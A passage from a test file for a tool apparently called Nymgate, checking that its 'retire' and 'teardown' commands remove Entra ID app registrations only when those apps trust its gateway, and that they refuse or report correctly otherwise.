    await stand.admin(ADMINISTRATOR, 'teardown', '--entra', '--yes', 'prod');
    expect(await clientIdsInTenant()).toEqual([clientId]);
  });

  test('T9-18: an application that is found by its unique name is removed only if it trusts this gateway', async () => {
    const { clientId } = calendar();
    deploy({ host: 'kubernetes' });
    for (const command of [
      ['retire', 'outlook-cal'],
      ['teardown', '--entra'],
    ])
      expect(await stand.admin(ADMINISTRATOR, ...command, '--yes', 'prod')).toMatchObject({
        exit: 1,
        err: expect.stringContaining(`${clientId}) doesn't trust the gateway of deployment.json`),
      });
    expect(await clientIdsInTenant()).toContain(clientId);
    deploy();
    expect(await stand.admin(ADMINISTRATOR, 'retire', 'outlook-cal', '--yes', 'prod')).toMatchObject({
      exit: 0,
    });
    expect(await clientIdsInTenant()).not.toContain(clientId);
  });

  test('an application that is not in the tenant is not reported as retired', async () => {
    const clientId = '5c0d3a1b-e2f4-4710-8000-000000000001';
    deploy({ clientId });
    const before = stand.read('deployment.json');
    for (const option of [['--dry-run'], ['--yes', 'prod'], []]) {
      const { exit, out, err } = await stand.admin(DEVELOPER, 'retire', 'outlook-cal', ...option);
      expect([exit, out, err]).toEqual([1, '', expect.stringContaining('nothing to remove was found')]);
      expect(stand.read('deployment.json')).toBe(before);
    }
    const typed = await stand.adminTypes('prod', DEVELOPER, 'retire', 'outlook-cal');
    expect(typed).toMatchObject({ exit: 0, out: '', err: expect.stringContaining('is no longer in') });
    expect(typed.err).toContain('to remove only the entry of Nymgate prod - outlook-cal');
    expect(Object.keys(stand.deployment().instances['calendar']?.connectors ?? {})).toEqual(['entra-id']);
  });

  test('an application that Nymgate has not made is no choice', async () => {
    const { clientId } = stand.simulator.registerApp({ name: 'Payroll', roles: [], credentials: [] });
    const unknown = await stand.admin(['Global Administrator'], 'retire', clientId, '--yes', 'prod');
    expect(unknown).toMatchObject({ exit: 2, err: expect.stringContaining(calendar().clientId) });
  });

  test('a brought application loses the trust only, and the command says who revokes its consent', async () => {
    const { clientId, objectId } = calendar();
    deploy({ clientId, existing: true });
    const { exit, out } = await stand.admin(DEVELOPER, 'retire', 'outlook-cal', '--yes', 'prod');
    expect([exit, out]).toEqual([
      0,
      expect.stringContaining('until a Privileged Role Administrator revokes it'),
    ]);
    expect(await clientIdsInTenant()).toContain(clientId);
    expect((await ask(`/v1.0/applications/${objectId}/federatedIdentityCredentials`))['value']).toEqual([]);
  });
});
